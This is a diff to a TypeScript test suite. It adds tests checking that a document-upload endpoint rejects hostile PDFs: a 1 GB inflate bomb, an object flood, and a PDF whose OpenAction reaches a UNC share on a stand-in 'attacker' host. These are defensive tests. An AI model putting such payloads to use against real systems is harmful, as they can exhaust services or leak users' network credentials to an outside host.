@@ -5,6 +5,7 @@ import { KeyRing } from '../../../src/lib/crypto/index.js';
 import { sanitizeDocument } from '../../../src/modules/documents/sanitize.js';
 import { authed, TEST_SECRETS, useTestApp } from '../../helpers/app.js';
 import { customer, pdfBase64, problems, seedRequest } from '../profile/fixtures.js';
+import { objectFlood, objectStreamBomb, pdfWith } from './hostile-pdfs.js';
 import type { Customer, Profile } from '../profile/fixtures.js';
 
 const ctx = useTestApp();
@@ -119,6 +120,40 @@ describe('clientMasterCopy uploads', () => {
     const { response } = await upload(user, 'this is not base64 at all!');
     expect(response.statusCode).toBe(400);
     expect(problems(response)).toEqual([[FIELD, 'invalid_base64']]);
+  });
+});
+
+describe('hostile clientMasterCopy uploads (issue 10)', () => {
+  it('refuses a 1 GB inflate bomb with 400 document_too_complex while /health/live keeps answering', async () => {
+    const user = await customer(ctx.app);
+    const bomb = (await objectStreamBomb(1024 ** 3)).toString('base64');
+    let uploading = true;
+    const upload = user.update(await withCopy(bomb)).finally(() => (uploading = false));
+    // The event loop stays free while the bomb is parsed: liveness answers before the upload does.
+    let answeredMeanwhile = 0;
+    while (uploading) {
+      const live = await ctx.app.inject({ method: 'GET', url: '/health/live' });
+      expect(live.statusCode).toBe(200);
+      if (uploading) answeredMeanwhile++;
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+    expect(answeredMeanwhile).toBeGreaterThan(0);
+    const response = await upload;
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toMatchObject({ code: 'validation_failed' });
+    expect(problems(response)).toEqual([[FIELD, 'document_too_complex']]);
+    expect(await documentIds(user.id)).toEqual([]);
+  });
+
+  it('refuses an object flood with 400 and an external action with 415, storing nothing', async () => {
+    const user = await customer(ctx.app);
+    const flood = await upload(user, objectFlood(120_000).toString('base64'));
+    expect(problems(flood.response)).toEqual([[FIELD, 'document_too_complex']]);
+    const unc = pdfWith('/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>');
+    const reaching = await upload(user, unc.toString('base64'));
+    expect(reaching.response.statusCode).toBe(415);
+    expect(problems(reaching.response)).toEqual([[FIELD, 'pdf_external_action']]);
+    expect(await documentIds(user.id)).toEqual([]);
   });
 });
 
